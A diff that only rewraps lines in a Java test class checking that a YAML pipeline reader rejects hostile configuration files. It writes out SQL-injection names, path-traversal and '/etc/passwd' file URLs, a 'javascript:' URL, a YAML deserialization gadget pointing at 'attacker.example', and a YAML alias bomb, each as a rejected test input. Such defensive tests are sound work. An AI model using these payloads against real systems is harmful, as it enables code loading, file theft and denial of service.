@@ -44,16 +44,29 @@ class HostilePipelineFileTest {
     }
 
     private PipelineConfigException rejected(String yaml) {
-        PipelineConfigException e = catchThrowableOfType(PipelineConfigException.class,
-                () -> reader.parse("hostile.yaml", yaml, Optional.empty()));
+        PipelineConfigException e = catchThrowableOfType(
+                PipelineConfigException.class, () -> reader.parse("hostile.yaml", yaml, Optional.empty()));
         assertThat(e).as("expected the file to be rejected:%n%s", yaml).isNotNull();
         assertThat(e.getMessage()).startsWith("hostile.yaml:");
         return e;
     }
 
     static Stream<Arguments> hostileNames() {
-        return Stream.of("\"x\"", "x\"; drop table runs; --", "x;y", "a b", "Day", "1st", "x'y", "x--y", "x.y",
-                        "\"\"", "ä", "x\\y", "a".repeat(64), "pg_catalog.pg_authid")
+        return Stream.of(
+                        "\"x\"",
+                        "x\"; drop table runs; --",
+                        "x;y",
+                        "a b",
+                        "Day",
+                        "1st",
+                        "x'y",
+                        "x--y",
+                        "x.y",
+                        "\"\"",
+                        "ä",
+                        "x\\y",
+                        "a".repeat(64),
+                        "pg_catalog.pg_authid")
                 .map(Arguments::of);
     }
 
@@ -70,8 +83,10 @@ class HostilePipelineFileTest {
 
     @Test
     void reserved_words_are_accepted_and_always_quoted() {
-        PipelineSpec spec = reader.parse("reserved.yaml", file("select", "https://example.org/a.csv", "order",
-                "public", "user"), Optional.empty());
+        PipelineSpec spec = reader.parse(
+                "reserved.yaml",
+                file("select", "https://example.org/a.csv", "order", "public", "user"),
+                Optional.empty());
         assertThat(spec.target().qualifiedName()).isEqualTo("\"public\".\"user\"");
         assertThat(spec.sources().get(0).name()).isEqualTo("select");
         assertThat(spec.sources().get(0).columns().get(0).name()).isEqualTo("order");
@@ -79,23 +94,37 @@ class HostilePipelineFileTest {
 
     @Test
     void a_header_may_be_any_text_because_it_is_never_sql() {
-        PipelineSpec spec = reader.parse("headers.yaml", TEMPLATE.replace("header: Day", "header: \"Day\\\"; drop\"")
-                .formatted("s", "https://example.org/a.csv", "day", "public", "t"), Optional.empty());
+        PipelineSpec spec = reader.parse(
+                "headers.yaml",
+                TEMPLATE.replace("header: Day", "header: \"Day\\\"; drop\"")
+                        .formatted("s", "https://example.org/a.csv", "day", "public", "t"),
+                Optional.empty());
         assertThat(spec.sources().get(0).columns().get(0).header()).isEqualTo("Day\"; drop");
         assertThat(spec.sources().get(0).columns().get(0).name()).isEqualTo("day");
     }
 
     static Stream<Arguments> escapingUrls() {
-        return Stream.of("file:../secret.csv", "file:data/../../secret.csv", "file:%2e%2e/secret.csv",
-                "file:data/%2e%2e/%2e%2e/secret.csv", "file:/etc/passwd", "file:///etc/passwd",
-                "file://localhost/etc/passwd", "file:link-out/secret.csv", "file:data/link-up/secret.csv",
-                "ftp://example.org/a.csv", "jar:file:/tmp/x.jar!/a.csv", "javascript:alert(1)",
-                "http:///no-host.csv").map(Arguments::of);
+        return Stream.of(
+                        "file:../secret.csv",
+                        "file:data/../../secret.csv",
+                        "file:%2e%2e/secret.csv",
+                        "file:data/%2e%2e/%2e%2e/secret.csv",
+                        "file:/etc/passwd",
+                        "file:///etc/passwd",
+                        "file://localhost/etc/passwd",
+                        "file:link-out/secret.csv",
+                        "file:data/link-up/secret.csv",
+                        "ftp://example.org/a.csv",
+                        "jar:file:/tmp/x.jar!/a.csv",
+                        "javascript:alert(1)",
+                        "http:///no-host.csv")
+                .map(Arguments::of);
     }
 
     @ParameterizedTest
     @MethodSource("escapingUrls")
-    void a_url_cannot_reach_outside_the_directories_the_user_allowed(String url, @TempDir Path root) throws IOException {
+    void a_url_cannot_reach_outside_the_directories_the_user_allowed(String url, @TempDir Path root)
+            throws IOException {
         Path pipelines = Files.createDirectories(root.resolve("pipelines"));
         Path data = Files.createDirectories(pipelines.resolve("data"));
         Files.writeString(root.resolve("secret.csv"), "Day,n\n2020-01-01,1\n");
@@ -105,20 +134,26 @@ class HostilePipelineFileTest {
         Path file = pipelines.resolve("p.yaml");
         Files.writeString(file, file("s", url, "day", "public", "t"));
 
-        PipelineConfigException e = catchThrowableOfType(PipelineConfigException.class,
-                () -> reader.read(file.toString()));
+        PipelineConfigException e =
+                catchThrowableOfType(PipelineConfigException.class, () -> reader.read(file.toString()));
         assertThat(e).as(url).isNotNull();
         assertThat(e.field()).isEqualTo("sources[0].url");
         assertThat(e.getMessage()).startsWith(file + ":4:");
 
         Files.writeString(file, file("s", "file:data/ok.csv", "day", "public", "t"));
-        assertThat(reader.read(file.toString()).sources().get(0).url()).isEqualTo(data.resolve("ok.csv").toUri());
+        assertThat(reader.read(file.toString()).sources().get(0).url())
+                .isEqualTo(data.resolve("ok.csv").toUri());
     }
 
     @Test
     void yaml_tags_are_data_never_code() {
-        PipelineConfigException e = rejected(file("s", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader"
-                + " [[!!java.net.URL [\"http://attacker.example/\"]]]]", "day", "public", "t"));
+        PipelineConfigException e = rejected(file(
+                "s",
+                "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader"
+                        + " [[!!java.net.URL [\"http://attacker.example/\"]]]]",
+                "day",
+                "public",
+                "t"));
         assertThat(e.field()).isEqualTo("sources[0].url");
     }
 
@@ -127,14 +162,36 @@ class HostilePipelineFileTest {
         StringBuilder bomb = new StringBuilder("a: &a [\"x\",\"x\",\"x\",\"x\",\"x\",\"x\",\"x\",\"x\",\"x\"]\n");
         for (char c = 'b'; c <= 'k'; c++) {
             char p = (char) (c - 1);
-            bomb.append(c).append(": &").append(c).append(" [*").append(p).append(",*").append(p).append(",*")
-                    .append(p).append(",*").append(p).append(",*").append(p).append(",*").append(p).append(",*")
-                    .append(p).append(",*").append(p).append(",*").append(p).append("]\n");
+            bomb.append(c)
+                    .append(": &")
+                    .append(c)
+                    .append(" [*")
+                    .append(p)
+                    .append(",*")
+                    .append(p)
+                    .append(",*")
+                    .append(p)
+                    .append(",*")
+                    .append(p)
+                    .append(",*")
+                    .append(p)
+                    .append(",*")
+                    .append(p)
+                    .append(",*")
+                    .append(p)
+                    .append(",*")
+                    .append(p)
+                    .append(",*")
+                    .append(p)
+                    .append("]\n");
         }
         org.junit.jupiter.api.Assertions.assertTimeoutPreemptively(Duration.ofSeconds(10), () -> {
-            PipelineConfigException e = catchThrowableOfType(PipelineConfigException.class,
-                    () -> reader.parse("bomb.yaml", bomb + TEMPLATE.formatted("s", "https://example.org/a.csv", "day",
-                            "public", "t"), Optional.empty()));
+            PipelineConfigException e = catchThrowableOfType(
+                    PipelineConfigException.class,
+                    () -> reader.parse(
+                            "bomb.yaml",
+                            bomb + TEMPLATE.formatted("s", "https://example.org/a.csv", "day", "public", "t"),
+                            Optional.empty()));
             assertThat(e).isNotNull();
         });
     }
